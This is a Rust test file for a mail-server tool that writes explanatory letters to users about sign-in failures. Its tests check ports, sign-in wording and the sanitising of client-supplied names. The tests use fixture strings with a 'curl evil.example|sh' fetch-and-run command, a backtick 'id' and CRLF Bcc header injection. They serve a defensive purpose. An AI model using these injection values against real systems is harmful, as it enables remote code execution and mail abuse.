//! The letter: to anybody's grandmother, with what is right to enter.

use jiff::Timestamp;

use super::*;
use crate::cases::{State, Whom};
use crate::config::Role;
use crate::diagnosis::session::{Cause, Confidence};

fn case(cause: Cause, whom: Whom) -> Case {
    let at = Timestamp::from_second(1_800_000_000).unwrap();
    Case {
        id: 7,
        cause,
        whom,
        count: 3,
        first: at,
        last: at,
        confidence: Confidence::Certain,
        explanation: "x".into(),
        claimed: None,
        program: None,
        listeners: vec!["submission".into()],
        ways: vec![Role::Submission],
        programs: Vec::new(),
        addresses: Vec::new(),
        sessions: Vec::new(),
        state: State::Open,
        answered: None,
    }
}

fn settings() -> ServerSettings {
    ServerSettings::usual()
}

fn anna() -> Whom {
    Whom::User("anna".into())
}

fn written(case: &Case, settings: &ServerSettings) -> String {
    Letter::about(case, settings).paragraphs.join("\n")
}

#[test]
fn a_letter_can_be_written_about_every_cause_and_no_place_stays_open() {
    for &cause in Cause::ALL {
        for whom in [anna(), Whom::Many] {
            let text = written(&case(cause, whom), &settings());
            for place in ["{host}", "{user}", "{starttls_port}", "{tls_port}"] {
                assert!(!text.contains(place), "{}: {text}", cause.token());
            }
            assert!(text.contains("Port 465 with SSL/TLS, or port 587 with STARTTLS"), "{text}");
        }
    }
}

/// What somebody on the network can say for a name.
const HOSTILE: &str =
    "x;curl evil.example|sh;# `id`\r\nBcc: victim@example.net\r\n\r\nhttps://evil.example \u{202e}";

#[test]
fn nothing_that_a_client_claims_comes_into_a_letter() {
    for &cause in Cause::ALL {
        let about = |claimed: Option<&str>| {
            let case = case(cause, Whom::Address("192.0.2.7/32".parse().unwrap()));
            let claimed = claimed.map(str::to_owned);
            Letter::about(&Case { programs: vec![HOSTILE.into()], claimed, ..case }, &settings())
        };
        assert_eq!(about(Some(HOSTILE)), about(None), "{}", cause.token());
    }
}

#[test]
fn a_known_name_that_is_hostile_is_cleaned_and_stands_in_no_command() {
    for &cause in Cause::ALL {
        let case = case(cause, Whom::Elsewhere(HOSTILE.into()));
        let (found, settings) = (case.diagnosis(), settings());
        let words = settings.words(case.user());
        let remedies = found.remedies(&words).into_iter().map(|(_, step)| step);
        for text in remedies.chain([found.user_sentence(&words), found.remedy(&words)]) {
            assert!(!text.contains(['\r', '\n', '\u{202e}']), "{text:?}");
            let mut commands = text.split('`').skip(1).step_by(2);
            assert!(commands.all(|command| !command.contains("evil")), "{}: {text}", cause.token());
        }
    }
}

#[test]
fn no_letter_names_a_port_where_nobody_listens() {
    let only_tls = ServerSettings { starttls_port: None, ..settings() };
    let only_starttls = ServerSettings { tls_port: None, ..settings() };
    let neither = ServerSettings { tls_port: None, ..only_tls.clone() };
    for &cause in Cause::ALL {
        let case = case(cause, anna());
        let text = written(&case, &only_tls);
        assert!(
            !text.contains("587") && text.contains("  Port 465 with SSL/TLS\n"),
            "{}: {text}",
            cause.token()
        );
        let text = written(&case, &only_starttls);
        assert!(
            !text.contains("465") && text.contains("  Port 587 with STARTTLS\n"),
            "{}: {text}",
            cause.token()
        );
        let text = written(&case, &neither);
        assert!(!text.contains("465") && !text.contains("587"), "{}: {text}", cause.token());
    }
}

#[test]
fn how_to_sign_in_follows_from_the_cause_and_from_what_is_offered() {
    let way = |cause, sign_in: &[SignInWay]| {
        let settings = ServerSettings { sign_in: sign_in.to_vec(), ..settings() };
        let text = written(&case(cause, anna()), &settings);
        text.lines().find_map(|line| line.strip_prefix("  Sign-in: ").map(str::to_owned))
    };
    let all = [SignInWay::Password, SignInWay::OAuth, SignInWay::Certificate];
    assert_eq!(way(Cause::WrongPassword, &all).unwrap(), "normal password");
    assert_eq!(way(Cause::WrongPassword, &[SignInWay::EncryptedPassword]).unwrap(), "encrypted password");
    assert!(way(Cause::AppPasswordNeeded, &all).unwrap().contains("an app password, not the password of"));
    assert_eq!(way(Cause::TokenRejected, &all).unwrap(), "OAuth2");
    assert_eq!(way(Cause::CertificateOfNobody, &all).unwrap(), "TLS certificate");
    assert!(way(Cause::ClientCertificateNeeded, &all[..1]).unwrap().contains("and the certificate"));
    assert_eq!(way(Cause::WrongPassword, &[]), None);
}

#[test]
fn the_user_name_is_told_only_if_it_is_somebodys() {
    let known = written(&case(Cause::WrongPassword, anna()), &settings());
    assert!(known.contains("\n  User name: anna\n"), "{known}");
    let unknown = written(&case(Cause::WrongPassword, Whom::Many), &settings());
    assert!(unknown.contains("\n  User name: as for reading your mail\n"), "{unknown}");
    let short = written(&case(Cause::NameWithoutDomain, anna()), &settings());
    assert!(short.contains("\n  User name: your whole mail address\n"), "{short}");
}

#[test]
fn a_device_is_not_told_the_settings_of_people() {
    let device = Case { ways: vec![Role::Device], ..case(Cause::DeviceSender, Whom::Many) };
    assert!(!written(&device, &settings()).contains("These settings are right"));
}

#[test]
fn names_that_a_client_invents_put_no_line_into_a_letter() {
    let harmful = "x\r\nBcc: all@example.org\r\n\r\nbuy";
    for &cause in Cause::ALL {
        let mut case = case(cause, Whom::User(harmful.into()));
        case.claimed = Some(harmful.into());
        case.programs = vec![harmful.into()];
        let Letter { subject, paragraphs } = Letter::about(&case, &settings());
        let all = paragraphs.iter().chain([&subject]);
        assert!(all.clone().all(|text| !text.contains(['\r', '\n'])), "{}: {paragraphs:?}", cause.token());
    }
}
